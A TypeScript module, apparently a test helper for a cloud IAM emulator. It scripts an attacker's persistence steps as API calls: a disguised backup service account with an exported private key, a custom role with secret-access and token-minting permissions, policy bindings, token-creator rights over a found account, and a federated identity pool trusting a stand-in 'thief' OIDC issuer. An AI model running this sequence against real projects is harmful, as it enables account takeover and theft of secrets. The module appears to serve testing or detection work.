import type { Reply } from './hq.ts'

/** Calls as the thief. */
export type Send = (method: string, path: string, body?: unknown) => Promise<Reply>

export const MADE = {
  project: 'acme-prod',
  account: 'backup-agent@acme-prod.iam.gserviceaccount.com',
  role: 'projects/acme-prod/roles/supportAccess',
  pool: 'projects/acme-prod/locations/global/workloadIdentityPools/partners',
} as const

const ACCOUNTS = `/v1/projects/${MADE.project}/serviceAccounts`
const ACCOUNT = `${ACCOUNTS}/${MADE.account}`

/** The results of the moves: the new account, and a key file for it. */
export interface Made {
  uniqueId: string
  keyName: string
  privateKey: string
  keyId: string
}

/**
 * The first moves of a thief with owner rights: another account with a key, a role of his own, grants, the right to be an
 * account that he found, a pool of his own.
 * @param found the email of an account that is there
 * @param certificate base64 of an X.509 certificate in PEM
 */
export async function firstMoves(send: Send, found: string, certificate: string): Promise<Made> {
  const good = async (method: string, path: string, body?: unknown) => {
    const { status, body: answer } = await send(method, path, body)
    if (status !== 200) throw new Error(`${method} ${path}: ${status} ${JSON.stringify(answer)}`)
    return answer
  }
  const serviceAccount = { displayName: 'Backup agent', description: 'nightly' }
  const made = await good('POST', ACCOUNTS, { accountId: 'backup-agent', serviceAccount })
  await good('PATCH', ACCOUNT, {
    serviceAccount: { description: 'nightly job interdict:protected', displayName: 'Backup' },
    updateMask: 'description,displayName',
  })
  const key = await good('POST', `${ACCOUNT}/keys`, { keyAlgorithm: 'KEY_ALG_RSA_2048' })
  const uploaded = await good('POST', `${ACCOUNT}/keys:upload`, { publicKeyData: certificate })
  await good('POST', `/v1/${uploaded.name}:disable`, {})
  await good('POST', `/v1/${uploaded.name}:enable`, {})
  await good('DELETE', `/v1/${uploaded.name}`)
  await good('POST', `${ACCOUNT}:disable`, {})
  await good('POST', `${ACCOUNT}:enable`, {})

  const roles = `/v1/projects/${MADE.project}/roles`
  const includedPermissions = ['secretmanager.versions.access']
  const role = { title: 'Support', description: 'support', includedPermissions, stage: 'GA' }
  const created = await good('POST', roles, { roleId: 'supportAccess', role })
  await good('PATCH', `/v1/${MADE.role}?updateMask=includedPermissions`, {
    includedPermissions: [...includedPermissions, 'iam.serviceAccounts.getAccessToken'],
  })
  await good('GET', `${roles}?view=FULL`)
  const read = await good('GET', `/v1/${created.name}`)
  await good('DELETE', `/v1/${MADE.role}?etag=${encodeURIComponent(read.etag)}`)
  await good('POST', `/v1/${MADE.role}:undelete`, {})

  const PROJECT = `/v3/projects/${MADE.project}`
  const policy = await good('POST', `${PROJECT}:getIamPolicy`, { options: { requestedPolicyVersion: 3 } })
  const member = `serviceAccount:${MADE.account}`
  const bindings = [...policy.bindings, { role: MADE.role, members: [member] }]
  await good('POST', `${PROJECT}:setIamPolicy`, { policy: { ...policy, bindings } })
  const own = await good('POST', `${ACCOUNTS}/${found}:getIamPolicy?options.requestedPolicyVersion=3`)
  await good('POST', `${ACCOUNTS}/${found}:setIamPolicy`, {
    policy: {
      ...own,
      bindings: [
        ...(own.bindings ?? []),
        { role: 'roles/iam.serviceAccountTokenCreator', members: [member] },
      ],
    },
  })

  await good('DELETE', ACCOUNT)
  await good('POST', `${ACCOUNTS}/${made.uniqueId}:undelete`, {})

  const pools = `/v1/projects/${MADE.project}/locations/global/workloadIdentityPools`
  await good('POST', `${pools}?workloadIdentityPoolId=partners`, { displayName: 'Partners' })
  await good('POST', `${pools}/partners/providers?workloadIdentityPoolProviderId=theirs`, {
    displayName: 'Theirs',
    attributeMapping: { 'google.subject': 'assertion.sub' },
    oidc: { issuerUri: 'https://tokens.thief.example' },
  })
  const file = JSON.parse(Buffer.from(key.privateKeyData, 'base64').toString())
  return {
    uniqueId: made.uniqueId,
    keyName: key.name,
    privateKey: file.private_key,
    keyId: file.private_key_id,
  }
}
